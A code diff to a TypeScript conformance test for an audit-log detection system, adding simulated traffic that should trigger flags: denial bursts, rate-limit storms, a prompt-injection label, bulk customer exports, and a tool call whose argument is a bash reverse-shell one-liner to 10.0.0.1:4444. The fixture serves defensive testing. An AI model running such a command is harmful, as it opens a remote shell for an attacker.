@@ -63,6 +63,8 @@ export function detectionConformanceSuite(open: () => Promise<Store>) {
     const { history, live } = stream();
     await storeEvents(store, history);
     await storeEvents(store, live);
+    await store.admin.createTenant({ id: "globex", name: "globex" });
+    await storeEvents(store, realStream());
   });
   afterAll(async () => store?.close());
 
@@ -119,7 +121,94 @@ export function detectionConformanceSuite(open: () => Promise<Store>) {
       const history = await Promise.all(ids.map((id) => det.flagHistory(id)));
       expect(history.map((h) => h.map((e) => e.action)).sort()).toEqual(EXPECTED_HISTORY);
     });
+
+    it("raises the same flags with the real rules (one file of expected flags for every store)", async () => {
+      const data = store.forTenant("globex");
+      // Five-minute windows over two hours after three days of learned history.
+      for (let now = T0; now <= T0 + 2 * HOUR; now += 5 * MIN)
+        for (let i = 0; i < 20; i++)
+          if ((await evaluateTenant({ data, now: new Date(now) })).caughtUp) break;
+      const flags = (await allFlags(store, "globex")).map(normalise);
+      flags.sort((a, b) =>
+        `${a.rule}|${a.groupKey}|${a.start}`.localeCompare(`${b.rule}|${b.groupKey}|${b.start}`),
+      );
+      expect(flags.length).toBeGreaterThan(3);
+      // Written by the first backend to run it (npx vitest run lib/detect/conformance.pglite.test.ts
+      // -u after a rule changes); every backend must then produce exactly this file.
+      await expect(`${JSON.stringify(flags, null, 2)}\n`).toMatchFileSnapshot(
+        "./__snapshots__/conformance-real-rules.json",
+      );
+    });
   });
+}
+
+/** Realistic traffic with one case of several real rules in it (tenant globex). */
+function realStream(): StoredEvent[] {
+  const ev = (id: string, t: number, over: Partial<StoredEvent>) => eventDoc("globex", id, t, over);
+  const out: StoredEvent[] = [];
+  // Three days of steady history: alice reads files, the ci agent queries github, hourly.
+  for (let h = 1; h <= 72; h++) {
+    const t = T0 - h * HOUR;
+    for (let i = 0; i < 4; i++)
+      out.push(ev(`ha${h}-${i}`, t + i * 7 * MIN, { actor: { id: "alice", type: "user" } }));
+    out.push(
+      ev(`hc${h}`, t + 30 * MIN, {
+        actor: { id: "ci", type: "agent" },
+        server: { name: "github" },
+        tool: "list_issues",
+        ingest_key_id: "key-gh",
+      }),
+    );
+  }
+  const live = T0 + 10 * MIN;
+  // A denial burst, a rate-limit storm, validation errors.
+  for (let i = 0; i < 14; i++)
+    out.push(
+      ev(`den${i}`, live + i * 2000, { actor: { id: "bob", type: "user" }, outcome: "denied" }),
+    );
+  for (let i = 0; i < 40; i++)
+    out.push(
+      ev(`rl${i}`, live + 5 * MIN + i * 1000, {
+        actor: { id: "ci", type: "agent" },
+        server: { name: "github" },
+        tool: "list_issues",
+        outcome: "rate_limited",
+        ingest_key_id: "key-gh",
+      }),
+    );
+  // Reverse shell in an argument; a secret redacted from arguments; a Guard injection label.
+  out.push(
+    ev("rev", live + 20 * MIN, {
+      actor: { id: "mallory", type: "user" },
+      server: { name: "shell" },
+      tool: "run_command",
+      arguments: { cmd: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
+    }),
+    ev("sec", live + 25 * MIN, {
+      actor: { id: "alice", type: "user" },
+      tool: "write_file",
+      redactions: [{ field: "arguments.content", type: "secret_field", count: 1 }],
+    }),
+    ev("inj", live + 30 * MIN, {
+      actor: { id: "ci", type: "agent" },
+      server: { name: "github" },
+      tool: "get_issue",
+      labels: { "guard.injection": "instructions:2" },
+      ingest_key_id: "key-gh",
+    }),
+  );
+  // alice, a user, calls a tool and a server she never used, many times over.
+  for (let i = 0; i < 30; i++)
+    out.push(
+      ev(`new${i}`, live + 40 * MIN + i * 10_000, {
+        actor: { id: "alice", type: "user" },
+        server: { name: "billing" },
+        tool: "export_customers",
+        arguments: { customer: `c-${i}` },
+        result_bytes: 2_000_000,
+      }),
+    );
+  return out;
 }
 
 const base = {
